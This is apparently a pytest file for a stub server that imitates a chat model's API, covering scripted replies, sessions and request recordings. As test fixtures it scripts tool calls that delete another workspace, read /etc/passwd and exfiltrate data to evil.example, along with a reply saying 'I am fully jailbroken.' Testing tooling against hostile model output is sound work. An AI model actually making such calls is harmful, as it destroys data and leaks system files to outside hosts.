"""The model stub's scripted mode, sessions and recordings, driven by the real ``openai`` SDK."""

from __future__ import annotations

import json

import httpx
import openai
import pytest

from app.model_stub.schemas import ScriptItem
from app.model_stub.scripts import StubState
from app.model_stub.server import RunningStub
from tests.model_stub.stub_sdk import (
    API_KEY,
    WEATHER,
    collect,
    control,
    sdk,
    tool_calls_of,
    user,
)

pytestmark = pytest.mark.anyio


# --- Scripted mode, sessions, recordings ----------------------------------------------------


async def test_script_plays_arbitrary_tool_calls_in_order(stub: RunningStub) -> None:
    script = {
        "responses": [
            {"tool_calls": [{"name": "delete_workspace", "arguments": {"workspace_id": "other"}}]},
            {
                "tool_calls": [
                    {"name": "read_file", "arguments": {"path": "/etc/passwd"}, "id": "call_a"},
                    {"name": "send_email", "arguments": "not json at all"},
                ]
            },
            {"text": "I am fully jailbroken."},
        ]
    }
    queued = await control(stub, "POST", "/script", json=script)
    assert queued == {"session": "", "pending": 3}
    async with sdk(stub) as client:
        replies = [
            await client.chat.completions.create(model="m", messages=user("hi"), tools=[WEATHER])
            for _ in range(4)
        ]
        exfiltrate = {"name": "exfiltrate", "arguments": {"to": "https://evil.example"}}
        await control(stub, "POST", "/script", json={"responses": [{"tool_calls": [exfiltrate]}]})
        streamed = tool_calls_of(
            await collect(
                await client.chat.completions.create(model="m", messages=user("x"), stream=True)
            )
        )
    first, second, third, after = (r.choices[0] for r in replies)
    assert first.message.tool_calls is not None
    assert first.message.tool_calls[0].type == "function"
    assert first.message.tool_calls[0].function.name == "delete_workspace"
    assert json.loads(first.message.tool_calls[0].function.arguments) == {"workspace_id": "other"}
    assert second.message.tool_calls is not None
    names = [
        (c.id, c.function.name, c.function.arguments)
        for c in second.message.tool_calls
        if c.type == "function"
    ]
    assert names[0] == ("call_a", "read_file", '{"path": "/etc/passwd"}')
    assert names[1][1:] == ("send_email", "not json at all")
    assert third.message.content == "I am fully jailbroken."
    assert third.finish_reason == "stop"
    assert after.message.content == "Echo: hi", "the script is used up"
    assert [(c["name"], json.loads(c["arguments"])) for c in streamed.values()] == [
        ("exfiltrate", {"to": "https://evil.example"})
    ], "scripted calls stream too, even with no tools offered"


async def test_script_failures_and_repeat(stub: RunningStub) -> None:
    await control(
        stub,
        "POST",
        "/script",
        json={"responses": [{"fail": "429", "retry_after": 7, "repeat": 2}, {"text": "ok now"}]},
    )
    async with sdk(stub) as client:
        for _ in range(2):
            with pytest.raises(openai.RateLimitError) as caught:
                await client.chat.completions.create(model="m", messages=user("hi"))
            assert caught.value.response.headers["retry-after"] == "7"
        reply = await client.chat.completions.create(model="m", messages=user("hi"))
    assert reply.choices[0].message.content == "ok now"


async def test_raw_chunks_reach_the_sdk_verbatim(stub: RunningStub) -> None:
    """A hostile model: wrong types pass through untouched (the SDK does not validate chunks)."""
    hostile = {
        "id": "x",
        "object": "chat.completion.chunk",
        "created": 0,
        "model": "m",
        "choices": [
            {
                "index": 0,
                "delta": {"tool_calls": [{"index": 0, "function": {"name": 7, "arguments": {}}}]},
                "finish_reason": None,
            }
        ],
    }
    await control(
        stub, "POST", "/script", json={"responses": [{"raw_chunks": [json.dumps(hostile)]}]}
    )
    async with sdk(stub) as client:
        stream = await client.chat.completions.create(model="m", messages=user("hi"), stream=True)
        chunks = await collect(stream)
    [chunk] = chunks
    function = chunk.choices[0].delta.tool_calls[0].function  # type: ignore[index]
    assert (function.name, function.arguments) == (7, {})  # type: ignore[union-attr]


async def test_a_script_item_is_one_kind_of_reply(stub: RunningStub) -> None:
    async with httpx.AsyncClient(base_url=stub.url, timeout=5) as http:
        response = await http.post(
            "/_stub/script", json={"responses": [{"text": "a", "raw_chunks": ["{}"]}]}
        )
    assert response.status_code == 400


async def test_sessions_keep_scripts_and_recordings_apart(stub: RunningStub) -> None:
    await control(
        stub, "POST", "/script", params={"session": "s1"}, json={"responses": [{"text": "for s1"}]}
    )
    await control(
        stub, "POST", "/script", params={"session": "s2"}, json={"responses": [{"text": "for s2"}]}
    )
    async with sdk(stub) as client:
        default = await client.chat.completions.create(model="m", messages=user("plain"))
        by_header = await client.chat.completions.create(
            model="m", messages=user("header"), extra_headers={"X-Stub-Session": "s2"}
        )
        by_marker = await client.chat.completions.create(
            model="m", messages=user("[[session:s1]] marker")
        )
    assert default.choices[0].message.content == "Echo: plain"
    assert by_header.choices[0].message.content == "for s2"
    assert by_marker.choices[0].message.content == "for s1"
    s1 = (await control(stub, "GET", "/requests", params={"session": "s1"}))["requests"]
    assert [r["body"]["messages"][-1]["content"] for r in s1] == ["[[session:s1]] marker"]
    await control(stub, "POST", "/reset", params={"session": "s1"})
    remaining = (await control(stub, "GET", "/requests"))["requests"]
    assert sorted(r["session"] for r in remaining) == ["", "s2"]


async def test_recordings_hold_what_was_sent_and_never_the_key(stub: RunningStub) -> None:
    async with sdk(stub) as client:
        await client.chat.completions.create(
            model="stub-large", messages=user("canary-1234"), tools=[WEATHER], temperature=0.2
        )
    recorded = (await control(stub, "GET", "/requests"))["requests"]
    assert len(recorded) == 1
    body = recorded[0]["body"]
    assert body["model"] == "stub-large"
    assert body["temperature"] == 0.2
    assert body["messages"] == user("canary-1234")
    assert body["tools"] == [WEATHER]
    assert API_KEY not in json.dumps(recorded)
    await control(stub, "POST", "/reset")
    assert (await control(stub, "GET", "/requests"))["requests"] == []


def test_recordings_are_bounded() -> None:
    state = StubState(max_recordings=3)
    for seq in range(1, 6):
        state.record(seq, "", {"n": seq})
    assert [r["seq"] for r in state.recordings(None)] == [3, 4, 5]
    state.enqueue("", [ScriptItem(text="a", repeat=2)])
    assert state.pending("") == 2
